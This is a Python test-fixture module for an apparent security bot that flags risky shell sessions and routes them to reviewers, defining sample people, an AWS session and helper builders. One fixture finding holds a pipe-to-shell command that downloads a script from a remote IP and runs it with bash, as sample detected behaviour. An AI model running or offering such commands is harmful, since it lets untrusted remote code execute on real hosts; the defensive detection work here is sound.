"""People, flags and small steps that the tests of reviews share."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

from bot.core.flags import Flag
from bot.core.model import Finding, Kind, Level, Session
from bot.core.review.facts import Known, Move, Person, Review
from bot.core.review.practice import Practice
from bot.core.review.table import ENDS, Verb
from bot.core.roles import Role

NOW = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)  # a Monday
OWNER_ARN = "arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_ProdOperator_0123456789abcdef/ana.ferreira@example.com"
SESSION = "ana.ferreira@example.com-749qsg4r3l79dygtkns0dnjvcc"
ANA = Person("U0ANAFERR1", Role.RESPONDER, "ana.ferreira@example.com")
BEN = Person("U0BENOKAF1", Role.VIEWER, "ben.okafor@example.com")
RHEA = Person("U0RHEASAN1", Role.REVIEWER, "rhea.santos@example.com")
RAJ = Person("U0RAJPATE1", Role.REVIEWER, "raj.patel@example.com")
OMAR = Person("U0OMARHAD1", Role.ADMIN, "omar.haddad@example.com", frozenset({"S0ONCALL01", "@oncall"}))
CALLED = Person("U0CALLED01", Role.VIEWER, "called@example.com", frozenset({"@oncall"}))
GUEST = Person("U0GUESTRV1", Role.REVIEWER, "guest@example.com", guest=True)
NOBODY = Person("U0NOBODY01")
KNOWN = Known(ANA.id, "by the e-mail that IAM Identity Center gave the session", "likely", "Europe/Lisbon")
PRACTICE = Practice(frozenset({"@oncall"}), "UTC", "#sec-flags")


def flag(level=Level.HIGH, session=SESSION, *more: Finding) -> Flag:
    """A flagged shell of Ana's."""
    found = Finding("pipe-to-shell", "A download is run at once", level, ("T1059.004",), "curl http://198.51.100.7/k.sh | bash", line=4)
    live = Session(
        session, OWNER_ARN, "i-0abc1234def567890", NOW - timedelta(minutes=10), kind=Kind.SHELL, account="111122223333", region="eu-west-1"
    )
    return Flag(session, live, level, (found, *more), "bastion-prod-1", NOW)


def review(**facts) -> Review:
    """A review just opened."""
    return Review(**{"id": "r2345678", "flag": flag(), "opened": NOW, "since": NOW, "channel": "#sec-flags", "card": "flag/1", **facts})


def move(verb: Verb, by: Person, at=NOW, **more) -> Move:
    """What somebody does, with whatever it needs."""
    needed = {"note": "deploy of CHG-1", "until": at + timedelta(days=1) if verb in ENDS else None}
    return Move("r2345678", verb, by, at, **{**needed, **more})
